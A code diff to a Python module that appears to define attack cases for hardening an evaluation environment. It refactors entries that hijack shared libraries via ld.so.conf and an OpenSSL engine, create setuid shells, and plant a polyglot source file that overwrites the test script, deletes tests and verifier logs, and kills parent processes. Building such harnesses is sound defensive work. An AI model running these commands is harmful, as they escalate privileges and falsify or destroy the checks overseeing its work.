@@ -1,6 +1,8 @@
 """Programs and libraries of the image that are replaced, shadowed or edited."""
 
-from attacks.attack import LIBRARY, Attack
+import functools
+
+from attacks.attack import LIBRARY, against
 from attacks.files import DIST, FORGE, TASK, WORK
 
 PYTHON = "/usr/lib/python3.11"
@@ -17,9 +19,7 @@ END
 """
 
 
-def attack(*commands: str) -> Attack:
-    return Attack(TASK, commands, WORK)
-
+attack = functools.partial(against, TASK, work=WORK)
 
 ATTACKS = {
     "programs-in-usr-local": attack(
@@ -78,14 +78,12 @@ ATTACKS = {
         LIBRARY,
         "mkdir /opt/lib; cp /opt/x.so /opt/lib/libz.so.1; echo /opt/lib >/etc/ld.so.conf.d/0.conf; ldconfig",
     ),
-    "openssl-module": Attack(
+    "openssl-module": against(
         "tls-certificate",
-        [
-            LIBRARY,
-            "sed -i '1i openssl_conf = i' /etc/ssl/openssl.cnf",
-            "printf '[i]\\nengines = e\\n[e]\\nx = x\\n[x]\\ndynamic_path = /opt/x.so\\ninit = 0\\n'"
-            " >>/etc/ssl/openssl.cnf",
-        ],
+        LIBRARY,
+        "sed -i '1i openssl_conf = i' /etc/ssl/openssl.cnf",
+        "printf '[i]\\nengines = e\\n[e]\\nx = x\\n[x]\\ndynamic_path = /opt/x.so\\ninit = 0\\n'"
+        " >>/etc/ssl/openssl.cnf",
     ),
     "name-service-module": attack(
         LIBRARY,
@@ -97,17 +95,15 @@ ATTACKS = {
     "setuid-shell": attack(
         "cp /bin/bash /opt/suid; chmod 4755 /opt/suid; chmod u+s /usr/bin/python3.11"
     ),
-    "work-that-attacks": Attack(
+    "work-that-attacks": against(
         "polyglot-primes",
-        [
-            "cat >/app/poly/primes.c <<'END'\n#if 0\nimport os, signal\n"
-            "os.system('/opt/forge; echo true >/tests/test.sh; rm -rf /tests/* /logs/verifier/*')\n"
-            "for pid in (os.getppid(), -1):\n  try: os.kill(pid, signal.SIGKILL)\n  except OSError: pass\n"
-            '"""\n#endif\n#include <stdlib.h>\nint main() { system("/opt/forge; kill -9 $PPID -1"); }\n'
-            '#if 0\n"""\n#endif\nEND',
-        ],
-        [
-            'printf \'#if 0\\n"""\\n#endif\\nint main() {}\\n#if 0\\n"""\\n#endif\\n\' >/app/poly/primes.c'
-        ],
+        "cat >/app/poly/primes.c <<'END'\n#if 0\nimport os, signal\n"
+        "os.system('/opt/forge; echo true >/tests/test.sh; rm -rf /tests/* /logs/verifier/*')\n"
+        "for pid in (os.getppid(), -1):\n  try: os.kill(pid, signal.SIGKILL)\n  except OSError: pass\n"
+        '"""\n#endif\n#include <stdlib.h>\nint main() { system("/opt/forge; kill -9 $PPID -1"); }\n'
+        '#if 0\n"""\n#endif\nEND',
+        work=(
+            'printf \'#if 0\\n"""\\n#endif\\nint main() {}\\n#if 0\\n"""\\n#endif\\n\' >/app/poly/primes.c',
+        ),
     ),
 }
